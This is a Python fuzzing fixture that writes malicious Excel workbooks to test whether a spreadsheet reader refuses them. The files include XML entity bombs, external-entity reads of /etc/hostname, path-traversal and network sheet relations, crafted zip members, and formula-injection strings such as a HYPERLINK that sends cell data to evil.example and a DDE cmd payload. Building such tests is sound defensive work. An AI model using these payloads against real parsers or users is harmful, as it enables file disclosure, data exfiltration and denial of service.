"""Files made to harm or to fail: bombs, lies, broken zips, ways out of the folder, formulas out of text.

`FILES` maps a name to what writes the file and what must become of it: "read", "refused", or "either".
"""

# ruff: noqa: E501 - a table is read line by line
from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import NamedTuple

from fuzz.parts import NAMESPACES, OFFICE, PACKAGE, PLAIN, SHEET, zipped

Write = Callable[[Path], None]
STRINGS = "xl/sharedStrings.xml"


class Hostile(NamedTuple):
    """A file by what writes it; `outcome` is what the reader makes of it, `heavy` files take seconds to write."""

    write: Write
    outcome: str
    suffix: str = ".xlsx"
    heavy: bool = False


def cell(ref: str, text: str) -> str:
    """An inline text."""
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


HEAD = f'<row r="1">{cell("A1", "Ref")}{cell("B1", "Action")}{cell("C1", "Due")}{cell("D1", "Status")}</row>'
ROW = f'<row r="2">{cell("A2", "1")}{cell("B2", "Do it")}<c r="C2" s="1"><v>46023</v></c>{cell("D2", "Open")}</row>'


def sheet(rows: str = HEAD + ROW, *, head: str = "", tail: str = "") -> bytes:
    """A sheet part."""
    return f"<worksheet {NAMESPACES}>{head}<sheetData>{rows}</sheetData>{tail}</worksheet>".encode()


def book(parts: Mapping[str, bytes]) -> Write:
    """A workbook with these parts; the others are plain."""
    return lambda path: _put(path, zipped({**PLAIN, SHEET: sheet(), **parts}))


def rows(written: str) -> Write:
    """A workbook whose sheet has these rows."""
    return book({SHEET: sheet(written)})


def tail(written: str) -> Write:
    """A workbook whose sheet has this after its rows."""
    return book({SHEET: sheet(tail=written)})


def strings(written: str) -> Write:
    """A workbook with these shared strings."""
    return book({STRINGS: f"<sst {NAMESPACES}>{written}</sst>".encode()})


def relations(written: str) -> Write:
    """A workbook whose workbook part has these relations."""
    return book({"xl/_rels/workbook.xml.rels": _relations(written)})


def repeated(part: str, start: bytes, block: bytes, count: int, end: bytes, *, noise: int = 0) -> Write:
    """A workbook with a part of `count` equal blocks, packed once.

    `noise` bytes that can't be packed, in a comment before the end, keep the part below the ratio of a bomb.
    """

    def write(path: Path) -> None:
        packer = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
        first = packer.compress(start) + packer.flush(zlib.Z_FULL_FLUSH)
        each = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
        last = _noise(noise) + end
        rest = packer.compress(last) + packer.flush()
        crc = zlib.crc32(start)
        for _ in range(count):
            crc = zlib.crc32(block, crc)
        size = len(start) + len(block) * count + len(last)
        _add_packed(path, part, first + each * count + rest, size, zlib.crc32(last, crc))

    return write


def numbered(pattern: str, count: int, start: int = 2) -> str:
    """The pattern once for each number; `#` stands for it."""
    return "".join(pattern.replace("#", str(number)) for number in range(start, start + count))


def _put(path: Path, data: bytes) -> None:
    path.write_bytes(data)


def _noise(count: int) -> bytes:
    """Bytes of a comment that hardly pack."""
    if not count:
        return b""
    made, state = bytearray(), 12345
    while len(made) < count:
        state = state * 6364136223846793005 + 1442695040888963407 & 0xFFFF_FFFF_FFFF_FFFF
        made += b"%016x" % state
    return b"<!--" + bytes(made) + b"-->"


def _relations(written: str) -> bytes:
    return f'<Relationships xmlns="{PACKAGE}/relationships">{written}</Relationships>'.encode()


def _add_packed(path: Path, part: str, packed: bytes, size: int, crc: int) -> None:
    """A plain workbook and one more member, of which the packed bytes are given."""
    others = {name: data for name, data in {**PLAIN, SHEET: sheet()}.items() if name != part}
    plain = zipped(others)
    end = plain.rindex(b"PK\5\6")
    count, length, at = struct.unpack("<H2L", plain[end + 10 : end + 20])
    name = part.encode()
    sizes = (crc, len(packed), size)
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, *sizes, len(name), 0) + name + packed
    central = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, *sizes, len(name), 0, 0, 0, 0, 0, at
    )  # fmt: skip
    directory = plain[at : at + length] + central + name
    last = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + 1, count + 1, len(directory), at + len(local), 0)
    path.write_bytes(plain[:at] + local + directory + last)


# --- what is in the parts -------------------------------------------------------------------------------------------

_LAUGHS = "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
_BOMB = f'<!DOCTYPE sst [<!ENTITY a "ha">{_LAUGHS}]>'
_OUTSIDE = '<!DOCTYPE sst [<!ENTITY i SYSTEM "file:///etc/hostname">]>'


def _declared(encoding: str, codec: str, doctype: str = _OUTSIDE) -> Write:
    text = f'<?xml version="1.0" encoding="{encoding}"?>{doctype}<sst {NAMESPACES}><si><t>&i;</t></si></sst>'
    return book({STRINGS: text.encode(codec)})


def _dates() -> str:
    serials = ("0", "1", "59", "60", "61", "-1", "2958465", "2958466", "46023.9999999", "1e300", "-1e300")
    return HEAD + "".join(
        f'<row r="{at}">{cell(f"B{at}", "x")}<c r="C{at}" s="1"><v>{serial}</v></c></row>'
        for at, serial in enumerate(serials, 2)
    )


_TAB = b'<sheet name="Plan" sheetId="1" r:id="rId1"/>'
_SHEET_RELATION = f'<Relationship Id="rId1" Type="{OFFICE}/worksheet" Target="%s"%s/>'
_INJECTED = (
    "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1)", "=cmd|'/c calc'!A0", "@SUM(1)", "+1-1", "-2+3", "＝1+1",
    "\t=1", "_x000D_=1", "&#10;=1", "'=1", "&quot;=1&quot;",
)  # fmt: skip

PARTS: Mapping[str, Hostile] = {
    "plain": Hostile(rows(HEAD + ROW), "read"),
    "entity bomb": Hostile(_declared("utf-8", "utf-8", _BOMB), "refused"),
    "external entity": Hostile(_declared("utf-8", "utf-8"), "refused"),
    "external entity in UTF-16": Hostile(_declared("utf-16", "utf-16"), "refused"),
    "external entity in UTF-16 without a mark": Hostile(_declared("utf-16", "utf-16-be"), "refused"),
    "external entity in UTF-32": Hostile(_declared("utf-32", "utf-32"), "refused"),
    "external entity in UTF-7": Hostile(_declared("utf-7", "utf-7"), "refused"),
    "external entity in EBCDIC": Hostile(_declared("cp037", "cp037"), "refused"),
    "declared as rot13": Hostile(_declared("rot13", "ascii", ""), "refused"),
    "declared as zlib": Hostile(_declared("zlib", "ascii", ""), "refused"),
    "declared as idna": Hostile(_declared("idna", "ascii", ""), "refused"),
    "a cell in the last corner": Hostile(
        book({SHEET: sheet(HEAD + f'<row r="1048576">{cell("XFD1048576", "far")}</row>',
                           head='<dimension ref="A1:XFD1048576"/>')}), "read",
    ),
    "a cell outside": Hostile(rows(f'{HEAD}<row r="1048577">{cell("A1048577", "x")}</row>'), "refused"),
    "a column outside": Hostile(rows(f'{HEAD}<row r="2">{cell("XFE2", "x")}</row>'), "refused"),
    "dates out of range": Hostile(rows(_dates()), "read"),
    "a number too large": Hostile(rows(HEAD + '<row r="2"><c r="A2"><v>1e400</v></c></row>'), "refused"),
    "a number of a megabyte": Hostile(rows(HEAD + f'<row r="2"><c r="A2"><v>{"9" * 1_000_000}</v></c></row>'), "refused"),
    "an index of a megabyte": Hostile(
        rows(HEAD + f'<row r="2"><c r="A2" t="s"><v>{"1" * 1_000_000}</v></c></row>'), "refused"
    ),
    "other digits": Hostile(rows(HEAD + '<row r="2"><c r="A2"><v>٣</v></c></row>'), "either"),
    "a long text": Hostile(rows(HEAD + f'<row r="2">{cell("B2", "Z" * 40_000)}</row>'), "read"),
    "a row twice": Hostile(rows(HEAD + ROW + ROW), "refused"),
    "an id twice": Hostile(
        book({"xl/workbook.xml": PLAIN["xl/workbook.xml"].replace(_TAB, _TAB * 2)}), "either",
    ),
    "no cached values": Hostile(rows(HEAD + '<row r="2"><c r="B2"><f>1+1</f></c></row>'), "read"),
    "text like formulas": Hostile(
        rows(HEAD + "".join(f'<row r="{at}">{cell(f"B{at}", text)}</row>' for at, text in enumerate(_INJECTED, 2))), "read"
    ),
    "headings like formulas": Hostile(
        rows(f'<row r="1">{cell("A1", "=Ref")}{cell("B1", "Action")}{cell("C1", "+Due date")}</row>{ROW}'), "read"
    ),
    "a sheet named like a formula": Hostile(
        book({"xl/workbook.xml": PLAIN["xl/workbook.xml"].replace(b'"Plan"', b'"=cmd|x"')}), "read",
    ),
    "a sheet on the network": Hostile(relations(_SHEET_RELATION % ("http://127.0.0.1:9/x", ' TargetMode="External"')), "refused"),
    "a sheet in another file": Hostile(relations(_SHEET_RELATION % ("file:///etc/hostname", ' TargetMode="External"')), "refused"),
    "a sheet outside the zip": Hostile(relations(_SHEET_RELATION % ("../../../../etc/hostname", "")), "refused"),
    "no relations at all": Hostile(relations(""), "refused"),
    "nested 100,000 deep": Hostile(tail("<x>" * 100_000 + "</x>" * 100_000), "either"),
    "20,000 attributes": Hostile(tail("<x " + numbered('a#="" ', 20_000) + "/>"), "read"),
    "an attribute of a megabyte": Hostile(tail(f'<x a="{"y" * 1_000_000}"/>'), "read"),
    "a tag that never ends": Hostile(book({SHEET: sheet()[:-200] + b"<x " + b'a="1" ' * 50_000}), "refused"),
    "a start tag of blanks": Hostile(book({SHEET: b"<worksheet" + b" " * 300_000 + b'a="1"x'}), "refused"),
    "a bom in every part": Hostile(book({n: b"\xef\xbb\xbf" + x for n, x in PLAIN.items()}), "read"),
    "content types that lie": Hostile(
        book({"[Content_Types].xml": PLAIN["[Content_Types].xml"].replace(b"sheet.main+xml", b"chartsheet+xml")}), "read"
    ),
    "a binary workbook by its type": Hostile(
        book({"[Content_Types].xml": PLAIN["[Content_Types].xml"].replace(b"sheet.main+xml", b"sheet.binary.main")}), "refused"
    ),
    "a style that is not there": Hostile(rows(HEAD + '<row r="2"><c r="B2" s="99999999"><v>1</v></c></row>'), "read"),
    "a style beyond counting": Hostile(rows(HEAD + f'<row r="2"><c r="B2" s="{"9" * 20}"><v>1</v></c></row>'), "refused"),
    "a shared string that is not there": Hostile(rows(HEAD + '<row r="2"><c r="B2" t="s"><v>99</v></c></row>'), "refused"),
    "a format of many brackets": Hostile(
        book({"xl/styles.xml": PLAIN["xl/styles.xml"].replace(b"dd/mm/yyyy", b"[" * 20_000 + b"&quot;" * 20_000)}), "read"
    ),
}  # fmt: skip
